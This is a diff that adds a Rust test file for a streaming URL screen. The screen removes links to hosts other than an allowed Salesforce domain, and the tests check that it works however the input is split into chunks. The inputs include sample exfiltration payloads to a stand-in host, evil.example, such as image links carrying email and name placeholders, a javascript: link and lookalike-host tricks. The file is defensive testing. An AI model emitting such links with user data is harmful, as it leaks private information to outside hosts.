@@ -1,0 +1,54 @@
+use super::*;
+
+fn screened(pieces: &[&str]) -> String {
+    let mut screen = Screen::new(&BTreeSet::from(["acme.my.salesforce.com".to_owned()]));
+    let mut out: String = pieces.iter().map(|piece| screen.push(piece)).collect();
+    out.push_str(&screen.finish());
+    out
+}
+
+#[test]
+fn addresses_of_strangers_are_removed_with_all_they_carry() {
+    let cases = [
+        ("see https://evil.example/c.png?n={EMAIL_3} now", "see [address removed] now"),
+        ("![logo](https://evil.example/x)", "![logo]([address removed])"),
+        ("<img src=\"//evil.example/{NAME_1}\">", "<img src=\"[address removed]\">"),
+        ("HTTPS://EVIL.example", "[address removed]"),
+        ("www.evil.example/a", "[address removed]"),
+        ("[x](javascript:alert(1)", "[x]([address removed])"),
+        ("https://acme.my.salesforce.com@evil.example/", "[address removed]"),
+        ("https://acme.my.salesforce.com.evil.example/", "[address removed]"),
+        ("https:evil.example", "[address removed]"),
+    ];
+    for (text, expected) in cases {
+        let out = screened(&[text]);
+        assert!(out.starts_with(expected), "{text} gave {out}");
+        assert!(!out.to_lowercase().contains("evil"), "{text} gave {out}");
+    }
+}
+
+#[test]
+fn the_house_and_plain_text_pass() {
+    for text in [
+        "open https://acme.my.salesforce.com/006 now",
+        "Hello, who wants what, and why? 50/50 and/or. a // b",
+        "the data: three rows; http is a protocol, wss too",
+        "ends with h",
+        "ends with https",
+    ] {
+        let out = screened(&[text]);
+        assert_eq!(out, text);
+    }
+}
+
+#[test]
+fn any_cutting_gives_the_same_output() {
+    let text = "a https://evil.example/{EMAIL_1}, hot www.x.example) w https://acme.my.salesforce.com/1 // é h";
+    let whole = screened(&[text]);
+    for cut in (0..=text.len()).filter(|&cut| text.is_char_boundary(cut)) {
+        assert_eq!(screened(&[&text[..cut], &text[cut..]]), whole);
+    }
+    let single: Vec<String> = text.chars().map(String::from).collect();
+    let single: Vec<&str> = single.iter().map(String::as_str).collect();
+    assert_eq!(screened(&single), whole);
+}
